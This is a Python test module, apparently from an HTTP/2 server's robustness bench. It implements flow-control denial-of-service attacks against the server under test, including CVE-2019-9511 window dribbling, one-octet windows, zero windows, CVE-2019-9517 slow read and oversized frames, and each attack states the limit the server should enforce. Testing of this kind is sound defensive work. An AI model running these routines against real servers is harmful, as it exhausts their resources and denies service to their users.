"""Answers that the peer does not take: in crumbs, not at all, or into a socket that it does not read."""

from __future__ import annotations

import functools
from typing import TYPE_CHECKING

from bench.attacks.attack import WIDE, Attack, open_call
from bench.attacks.peer import Ended
from bench.attacks.scans import open_scan
from tests.support import wire

if TYPE_CHECKING:
    from bench.attacks.peer import RawPeer

_SHUT = wire.PREFACE + wire.settings((4, 0)) + wire.settings(ack=True)
_NARROW = wire.PREFACE + wire.settings((4, 1)) + wire.settings(ack=True) + wire.window_update(0, 1 << 30)
_DRIBBLES = 100_000
_BIG_FRAMES = WIDE + wire.settings((wire.MAX_FRAME_SIZE, 2**24 - 1))


def stream_dribble(peer: RawPeer) -> None:
    """CVE-2019-9511: use up a window, then open it octet by octet, as a client that consumes so does, too."""
    (sid,) = peer.streams()
    peer.send(open_scan(sid))
    peer.wait(lambda peer: sum(size * count for size, count in peer.data_sizes.items()) >= 65_535)
    peer.send(wire.window_update(0, 1 << 30))
    for _ in range(_DRIBBLES // 100):
        peer.send(wire.window_update(sid, 1) * 100)
    peer.wait_answer()


def connection_dribble(peer: RawPeer) -> None:
    """The same with the connection's window."""
    (sid,) = peer.streams()
    peer.send(open_scan(sid) + wire.window_update(sid, 1 << 30))
    peer.wait(lambda peer: sum(size * count for size, count in peer.data_sizes.items()) >= 65_535)
    for _ in range(_DRIBBLES // 100):
        peer.send(wire.window_update(0, 1) * 100)
    peer.wait_answer()


def _got_more(had: int, peer: RawPeer) -> bool:
    return sum(peer.data_sizes.values()) > had


def windows_of_one_octet(peer: RawPeer) -> None:
    """Never let more than one octet come at a time."""
    (sid,) = peer.streams()
    peer.send(open_scan(sid))
    had = 0
    for _ in range(2_000):
        if not peer.wait(functools.partial(_got_more, had)):
            raise Ended
        had = sum(peer.data_sizes.values())
        peer.send(wire.window_update(sid, 1))


def zero_window(peer: RawPeer) -> None:
    """Ask for much, and let nothing come."""
    peer.send(b"".join(map(open_scan, peer.streams(50))))
    peer.wait_answer()


def slow_read(peer: RawPeer) -> None:
    """CVE-2019-9517: open every window and do not read the socket."""
    peer.send(b"".join(map(open_scan, peer.streams(20))))


def big_frames(peer: RawPeer) -> None:
    """SETTINGS_MAX_FRAME_SIZE of 16 MiB, and much to be sent in frames of any size."""
    peer.send(open_scan(peer.streams()[0]) + open_call(peer.streams()[0], end=True))
    peer.wait(lambda peer: peer.status)


ATTACKS = (
    Attack(
        name="data dribble, stream window",
        run=stream_dribble,
        bound="frames of 1 KiB at least, or 5 a second; so it is served, slowly",
    ),
    Attack(name="data dribble, connection window", run=connection_dribble, bound="the same"),
    Attack(
        name="windows of one octet",
        run=windows_of_one_octet,
        hello=_NARROW,
        bound="10 000 small frames, 500 a second, then 5 a second and stream; so it is served, slowly",
    ),
    Attack(
        name="zero window",
        run=zero_window,
        hello=_SHUT,
        bound="nothing is read for a stream that is not writable",
        connections=2,
    ),
    Attack(
        name="slow read",
        run=slow_read,
        hello=WIDE,
        reads=False,
        bound="the same; send_timeout_s for the socket to take anything",
        connections=4,
    ),
    Attack(
        name="MAX_FRAME_SIZE of 16 MiB",
        run=big_frames,
        hello=_BIG_FRAMES,
        bound="DATA frames of outbound_frame_bytes_max",
    ),
)
